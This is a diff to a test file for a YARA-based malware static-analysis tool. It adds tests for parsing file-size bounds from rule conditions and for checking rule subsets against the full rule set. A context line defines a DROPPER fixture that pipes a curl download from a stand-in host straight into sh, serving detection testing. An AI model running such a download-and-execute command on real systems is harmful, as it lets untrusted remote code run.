@@ -27,7 +27,7 @@ from detonate.static.result_cache import (
     cache_stats,
     reset_cache_stats,
 )
-from detonate.static.yara_rules import compiled_rules
+from detonate.static.yara_rules import compiled_rules, size_bound
 from static.rootfs_builder import SampleFile, build_rootfs, make_image
 
 DROPPER = b"#!/bin/sh\ncurl -fsSL http://x.test/a.sh | sh\n"
@@ -291,3 +291,44 @@ def test_file_content_rules_are_cached_per_rule(tmp_path: Path) -> None:
     assert counts("files") == (first_misses - 1, 1)  # only the changed rule reads miner.conf
     assert "cache-test-conf-line" not in {f.rule_id for f in third.findings}
     load_rules.cache_clear()
+
+
+@pytest.mark.parametrize(
+    ("condition", "bound"),
+    [
+        ("filesize < 4MB and $a", 4 * 1024 * 1024),
+        (
+            "filesize < 256KB and $a at 0 and for any i in (1..#a) : (@a[i] > 3 or @a[i] < 1)",
+            262144,
+        ),
+        ("// a comment (with or in it)\n        filesize < 100 and ($a or $b)", 100),
+        ("filesize < 4MB and $a or $b", None),  # `or` at the top: $b alone matches any size
+        ("$a and filesize < 4MB", None),  # the bound is not first
+        ('filesize < 4MB and pe.sections[0].name == "or"', None),  # strings: not parsed
+        ("any of them", None),
+    ],
+)
+def test_size_bound_of_a_rule_is_read_conservatively(condition: str, bound: int | None) -> None:
+    strings = '    strings:\n        $a = "x"\n        $b = "y"\n'
+    source = f"rule r\n{{\n{strings}    condition:\n        {condition}\n}}\n"
+    assert size_bound(source) == bound
+
+
+def test_size_classes_match_what_the_whole_rule_set_matches() -> None:
+    """Over the rule samples and a few real binaries: the class a file's size picks finds the
+    same rules as all the rules together."""
+    compiled = compiled_rules()
+    everything = yara_x.Scanner(compiled.scan)
+    samples = sorted(p for p in (Path(__file__).parent.parent / "rules/samples").rglob("*"))
+    binaries = [Path(p) for p in ("/usr/bin/skopeo", "/usr/bin/runc", "/bin/busybox")]
+    files = [p for p in samples + binaries if p.is_file()]
+    assert len(files) > 50
+    for path in files:
+        data = path.read_bytes()
+        rules = compiled.for_size(len(data))
+        by_class = (
+            set()
+            if rules is None
+            else {r.identifier for r in yara_x.Scanner(rules).scan(data).matching_rules}
+        )
+        assert by_class == {r.identifier for r in everything.scan(data).matching_rules}, path
